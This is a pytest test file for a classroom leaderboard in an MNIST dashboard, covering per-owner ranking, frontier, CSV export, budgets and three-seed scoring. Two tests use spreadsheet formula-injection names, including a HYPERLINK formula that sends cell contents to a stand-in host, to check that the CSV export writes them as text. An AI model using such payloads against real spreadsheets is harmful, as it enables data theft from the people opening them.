"""The class board and the challenge on known runs: rows, frontier, CSV, budgets and the mean of 3 seeds."""

import csv
import io

import pytest

from mnist_dash.classroom.board import best_per_owner, board_csv, frontier, last_epoch_gap
from mnist_dash.classroom.challenge import Challenge, ChallengeError, entry_seeds, scores, unfinished_entries
from mnist_dash.plan import count_params
from mnist_dash.runs.records import RunInfo
from mnist_dash.spec import LayerSpec, ModelSpec


def run(owner, accuracy, units=32, epochs=5, seed=0, status="finished", minute=0, name="d"):
    spec = ModelSpec(layers=(LayerSpec(units),), epochs=epochs, seed=seed, name=name)
    return RunInfo(
        run_id=f"20261127-10{minute:02d}00-{name}-{owner or 'none'}-{seed}",
        status=status,
        created=f"2026-11-27T10:{minute:02d}:00+00:00",
        spec=spec,
        params_total=count_params(spec).total,
        epochs_run=epochs if status == "finished" else 1,
        epoch_seconds=(2.0,) * epochs,
        test_loss=0.1,
        test_accuracy=accuracy if status == "finished" else None,
        owner=None if owner is None else f"name:{owner}",
        owner_name=owner,
    )


def no_gap(_run):
    return None


def test_one_row_per_owner_with_their_best_run_best_first():
    runs = [
        run("ada", 0.95, minute=1),
        run("ada", 0.97, minute=2, units=64),
        run("bo", 0.96, minute=3),
        run("bo", None, minute=4, status="stopped"),
        run(None, 0.99, minute=5),  # from before owners: not on the board
    ]
    rows = best_per_owner(scores(runs, Challenge()), no_gap)
    assert [(row.owner, row.test_accuracy, row.params) for row in rows] == [("ada", 0.97, 50_890), ("bo", 0.96, 25_450)]
    assert rows[0].design == "784 → 64 relu → 10" and rows[0].seconds_per_epoch == 2.0


def test_a_tie_goes_to_the_run_that_got_there_first():
    later, earlier = run("ada", 0.97, minute=2, name="b"), run("ada", 0.97, minute=1)
    rows = best_per_owner(scores([later, earlier], Challenge()), no_gap)
    assert rows[0].name == "d"


def test_the_gap_is_the_last_epochs_training_minus_validation_accuracy():
    history = [{"accuracy": 0.9, "val_accuracy": 0.92}, {"accuracy": 0.99, "val_accuracy": 0.97}]
    assert last_epoch_gap(history) == pytest.approx(0.02)
    assert last_epoch_gap([]) is None


def test_frontier_keeps_the_points_no_smaller_point_beats():
    points = [(100, 0.90), (50, 0.80), (200, 0.85), (300, 0.95), (50, 0.82), (400, 0.95)]
    assert frontier(points) == [(50, 0.82), (100, 0.90), (300, 0.95)]
    assert frontier([]) == []


def test_csv_has_a_header_and_a_line_per_owner_with_names_as_given():
    rows = best_per_owner(scores([run('=cmd|"x"', 0.9), run("bo, jr", 0.8)], Challenge()), lambda r: 0.01)
    lines = list(csv.reader(io.StringIO(board_csv(rows))))
    assert lines[0][:5] == ["Owner", "Design", "Parameters", "Epochs", "Test accuracy"]
    assert [line[0] for line in lines[1:]] == ['\'=cmd|"x"', "bo, jr"]  # quoted by csv, not split or lost
    assert lines[1][4:6] == ["0.9000", "0.0100"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(start):
    """`=HYPERLINK(...)` as an owner's or a design's name was a live formula in the teacher's spreadsheet."""
    name = f'{start}HYPERLINK("http://example.invalid/?"&A1,"grade")'
    rows = best_per_owner(scores([run(name, 0.9, name=name), run("bo", 0.8, name="plain")], Challenge()), no_gap)
    lines = list(csv.reader(io.StringIO(board_csv(rows), newline="")))
    assert lines[1][:2] == ["'" + name, "784 → 32 relu → 10"] and lines[2][0] == "bo"
    negative = best_per_owner(scores([run("cy", 0.9)], Challenge()), lambda r: -0.02)
    assert list(csv.reader(io.StringIO(board_csv(negative))))[1][5] == "-0.0200"  # the app's numbers stay numbers


def test_a_budget_ranks_only_the_runs_inside_it():
    challenge = Challenge(max_params=30_000, max_epochs=5)
    runs = [run("ada", 0.98, units=64), run("ada", 0.95, units=32), run("bo", 0.97, epochs=6), run("cy", 0.9)]
    rows = best_per_owner(scores(runs, challenge), no_gap)
    assert [(row.owner, row.test_accuracy) for row in rows] == [("ada", 0.95), ("cy", 0.9)]
    spec = ModelSpec(layers=(LayerSpec(64),), epochs=8)
    assert challenge.problems(spec, count_params(spec).total) == [
        "50,890 parameters: the challenge allows at most 30,000",
        "8 epochs: the challenge allows at most 5",
    ]
    assert challenge.describe() == "best test accuracy, with at most 30,000 parameters, in at most 5 epochs"


def test_three_seeds_score_the_mean_and_only_when_all_three_ran():
    challenge = Challenge(seeds=3)
    complete = [run("ada", accuracy, seed=seed, minute=seed) for seed, accuracy in ((4, 0.90), (5, 0.93), (6, 0.96))]
    partial = [run("bo", 0.99, seed=0), run("bo", 0.99, seed=1)]  # the third seed has not run yet
    entries = scores(complete + partial, challenge)
    assert [(entry.run.owner_name, entry.seeds) for entry in entries] == [("ada", (4, 5, 6))]
    assert entries[0].accuracy == pytest.approx(0.93)
    rows = best_per_owner(entries, no_gap)
    assert rows[0].seeds == (4, 5, 6) and rows[0].test_accuracy == pytest.approx(0.93)


def test_entries_short_of_their_seeds_are_listed_with_the_seeds_they_have_and_need():
    challenge = Challenge(seeds=3)
    runs = [run("ada", 0.9, seed=seed, minute=seed) for seed in (4, 5, 6)]  # a full entry: ranked, not listed
    runs += [run("bo", 0.9, seed=5, minute=7), run("bo", 0.9, seed=6, minute=8), run("cy", 0.9, seed=0, minute=9)]
    found = unfinished_entries(runs, challenge)
    assert [(entry.run.owner_name, entry.have, entry.seeds) for entry in found] == [
        ("bo", (5, 6), (5, 6, 7)),
        ("cy", (0,), (0, 1, 2)),
    ]
    assert unfinished_entries(runs, Challenge()) == []


@pytest.mark.parametrize(
    ("seed", "have", "entry"),
    [
        (4, {4}, [4, 5, 6]),  # a first run: the next two seeds
        (5, {4, 5, 6}, [4, 5, 6]),  # seed 5 of an entry begun at 4: it never offers 6 and 7
        (6, {4, 5, 6}, [4, 5, 6]),
        (5, {4, 5}, [4, 5, 6]),  # 6 still to come
        (1, {1}, [1, 2, 3]),
        (0, {0, 1, 2}, [0, 1, 2]),
        (2, {2, 3}, [2, 3, 4]),
        (7, {4, 5, 6, 7}, [5, 6, 7]),  # the window holding 7 with most of its seeds
    ],
)
def test_a_runs_entry_is_the_window_of_seeds_it_shares_with_the_owners_other_seeds(seed, have, entry):
    assert entry_seeds(seed, have, 3) == entry
    assert entry_seeds(seed, have, 1) == [seed]


@pytest.mark.parametrize(
    "settings",
    [{"max_params": 0}, {"max_params": "100"}, {"max_epochs": 10**9}, {"seeds": 2}, {"max_params": True}],
)
def test_impossible_challenges_are_refused_with_the_setting_named(settings):
    with pytest.raises(ChallengeError, match=next(iter(settings))):
        Challenge(**settings)


def test_a_challenge_survives_its_json_and_a_damaged_one_is_an_error():
    challenge = Challenge(max_params=100_000, seeds=3)
    assert Challenge.from_json(challenge.to_json()) == challenge
    with pytest.raises(ChallengeError, match="cannot be read"):
        Challenge.from_json('{"max_params": 5, "colour": "red"}')
